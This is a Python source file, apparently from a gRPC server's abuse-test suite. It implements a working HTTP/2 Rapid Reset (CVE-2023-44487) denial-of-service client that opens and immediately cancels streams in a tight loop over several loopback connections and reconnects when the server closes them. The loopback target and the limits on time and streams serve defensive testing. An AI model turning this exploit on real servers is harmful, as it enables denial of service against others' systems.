"""A raw HTTP/2 client that abuses a gRPC server, for the abuse tests.

It speaks HTTP/2 frame by frame (frames built and parsed with hyperframe,
headers encoded with hpack: the h2 project's own libraries), which no gRPC
library would let a test do. Every attack runs on loopback, is bounded in
streams and in seconds, and stops by itself.

    python http2_attacker.py rapid-reset --port PORT [--connections 8]
        [--seconds 6] [--max-streams N]

rapid-reset (CVE-2023-44487): on each connection, open a stream (HEADERS
and one DATA frame carrying a GetSequence(46) request) and reset it at once
(RST_STREAM CANCEL), for new stream ids in a tight loop. All connections
share one thread, so the attack uses one core at most. A connection the
server closes is opened again, as an attacker would. Prints one JSON line:
streams sent, connections opened, GOAWAYs received.
"""

import argparse
import json
import socket
import sys
import time

from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import (
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
# Streams written per send: large enough to keep the socket busy, small
# enough that a connection's share of the loop stays short.
STREAMS_PER_WRITE = 64
# Client stream ids are odd and below 2**31.
LAST_STREAM_ID = 2**31 - 1


def grpc_request(method: str, authority: str, message: bytes):
    """The header block and the DATA payload of one gRPC request. Headers
    are never indexed, so the same block is valid on every stream."""
    headers = [
        NeverIndexedHeaderTuple(":method", "POST"),
        NeverIndexedHeaderTuple(":scheme", "http"),
        NeverIndexedHeaderTuple(":path", method),
        NeverIndexedHeaderTuple(":authority", authority),
        NeverIndexedHeaderTuple("content-type", "application/grpc"),
        NeverIndexedHeaderTuple("te", "trailers"),
    ]
    block = Encoder().encode(headers, huffman=False)
    payload = b"\x00" + len(message).to_bytes(4, "big") + message
    return block, payload


class Connection:
    """One attacking connection: a socket, the next stream id, and what
    the server sent that is not yet parsed."""

    def __init__(self, port: int, deadline: float):
        self.deadline = deadline
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.sendall(PREFACE + SettingsFrame(0).serialize())
        self.sock.setblocking(False)
        self.next_stream_id = 1
        self.inbound = bytearray()
        self.goaways = 0

    def rapid_reset_batch(self, block: bytes, payload: bytes, count: int) -> bytes:
        frames = []
        for _ in range(count):
            stream_id = self.next_stream_id
            self.next_stream_id += 2
            frames.append(HeadersFrame(stream_id, block, flags=["END_HEADERS"]).serialize())
            frames.append(DataFrame(stream_id, payload).serialize())
            frames.append(RstStreamFrame(stream_id, error_code=CANCEL).serialize())
        return b"".join(frames)

    def answer(self) -> bool:
        """Reads what the server sent; acknowledges its SETTINGS and PINGs
        as a conforming client must. False once the server has closed."""
        try:
            while True:
                chunk = self.sock.recv(1 << 16)
                if not chunk:
                    return False
                self.inbound += chunk
        except BlockingIOError:
            pass
        except OSError:
            return False
        replies = []
        while len(self.inbound) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.inbound[:9]))
            if len(self.inbound) < 9 + length:
                break
            frame.parse_body(memoryview(self.inbound[9:9 + length]))
            del self.inbound[:9 + length]
            if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                replies.append(SettingsFrame(0, flags=["ACK"]).serialize())
            elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
                replies.append(PingFrame(0, frame.opaque_data, flags=["ACK"]).serialize())
            elif isinstance(frame, GoAwayFrame):
                self.goaways += 1
        if replies:
            return self.send(b"".join(replies))
        return True

    def send(self, data: bytes) -> bool:
        """Writes all of `data`, waiting for room until the attack's
        deadline; False if the server has closed the connection or the
        deadline passed first."""
        view = memoryview(data)
        try:
            while view:
                if time.monotonic() > self.deadline:
                    return False
                try:
                    sent = self.sock.send(view)
                    view = view[sent:]
                except BlockingIOError:
                    time.sleep(0.005)
                    if not self.answer():
                        return False
        except OSError:
            return False
        return True

    def close(self):
        self.sock.close()


def rapid_reset(port: int, connections: int, seconds: float, max_streams: int) -> dict:
    block, payload = grpc_request(
        "/fibonacci.Fibonacci/GetSequence", f"127.0.0.1:{port}", b"\x08\x2e"
    )
    deadline = time.monotonic() + seconds
    opened = [Connection(port, deadline) for _ in range(connections)]
    connections_opened = connections
    goaways = 0
    streams = 0
    while time.monotonic() < deadline and streams < max_streams:
        for index, conn in enumerate(opened):
            count = min(STREAMS_PER_WRITE, max_streams - streams)
            alive = (
                conn.next_stream_id + 2 * count < LAST_STREAM_ID
                and conn.answer()
                and conn.send(conn.rapid_reset_batch(block, payload, count))
            )
            if alive:
                streams += count
                continue
            goaways += conn.goaways
            conn.close()
            try:
                opened[index] = Connection(port, deadline)
                connections_opened += 1
            except OSError:
                time.sleep(0.01)
    for conn in opened:
        goaways += conn.goaways
        conn.close()
    return {"streams": streams, "connections_opened": connections_opened, "goaways": goaways}


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=["rapid-reset"])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, default=8)
    parser.add_argument("--seconds", type=float, default=6.0)
    parser.add_argument("--max-streams", type=int, default=5_000_000)
    args = parser.parse_args()
    result = rapid_reset(args.port, args.connections, args.seconds, args.max_streams)
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    sys.exit(main())
